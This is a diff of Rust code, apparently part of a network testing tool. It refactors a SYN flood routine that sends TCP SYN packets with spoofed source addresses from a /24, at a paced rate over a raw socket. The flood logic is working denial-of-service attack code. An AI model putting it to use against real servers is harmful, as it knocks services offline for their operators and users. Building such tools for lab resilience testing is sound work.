@@ -6,7 +6,6 @@
 
 use std::io;
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
-use std::thread;
 use std::time::{Duration, Instant};
 
 use smoltcp::phy::ChecksumCapabilities;
@@ -16,6 +15,8 @@ use smoltcp::wire::{
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 
 use super::outcome::{Out, seconds};
+use super::pace::send_paced;
+use super::rng::Rng;
 
 /// The flood's plan.
 pub struct SynFlood {
@@ -29,19 +30,6 @@ pub struct SynFlood {
     pub duration: Duration,
     /// Seed of the sources, ports and sequence numbers.
     pub seed: u64,
-}
-
-/// SplitMix64.
-struct Rng(u64);
-
-impl Rng {
-    fn next(&mut self) -> u64 {
-        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
-        let mut z = self.0;
-        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
-        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
-        z ^ (z >> 31)
-    }
 }
 
 /// Host numbers 1..=254 of the /24, except the server's and our own: the spoofed sources.
@@ -117,33 +105,19 @@ pub fn syn_flood(plan: &SynFlood, out: &mut Out) -> io::Result<bool> {
         return Err(io::ErrorKind::InvalidInput.into());
     }
     let dst = SockAddr::from(SocketAddr::V4(plan.to));
-    let mut rng = Rng(plan.seed);
-    let (mut sent, mut errors) = (0u64, 0u64);
+    let mut rng = Rng::new(plan.seed);
     let start = Instant::now();
-    let end = start + plan.duration;
-    loop {
-        let now = Instant::now();
-        if now >= end {
-            break;
-        }
-        // Catch up with the schedule, then sleep a millisecond.
-        let due = ((now - start).as_secs_f64() * f64::from(plan.rate)) as u64 + 1;
-        while sent + errors < due {
-            let r = rng.next();
-            let host = hosts[(r % hosts.len() as u64) as usize];
-            let [a, b, c] = plan.from_net;
-            let src = SocketAddrV4::new(
-                Ipv4Addr::new(a, b, c, host),
-                1024 + ((r >> 16) % 64000) as u16,
-            );
-            let packet = syn_packet(src, plan.to, (r >> 32) as u32);
-            match raw.send_to(&packet, &dst) {
-                Ok(_) => sent += 1,
-                Err(_) => errors += 1,
-            }
-        }
-        thread::sleep(Duration::from_millis(1));
-    }
+    let (sent, errors) = send_paced(plan.rate, plan.duration, |_| {
+        let r = rng.next();
+        let host = hosts[(r % hosts.len() as u64) as usize];
+        let [a, b, c] = plan.from_net;
+        let src = SocketAddrV4::new(
+            Ipv4Addr::new(a, b, c, host),
+            1024 + ((r >> 16) % 64000) as u16,
+        );
+        let packet = syn_packet(src, plan.to, (r >> 32) as u32);
+        raw.send_to(&packet, &dst).is_ok()
+    });
     let elapsed = start.elapsed();
     out.line(&[
         ("SUMMARY", "synflood".into()),
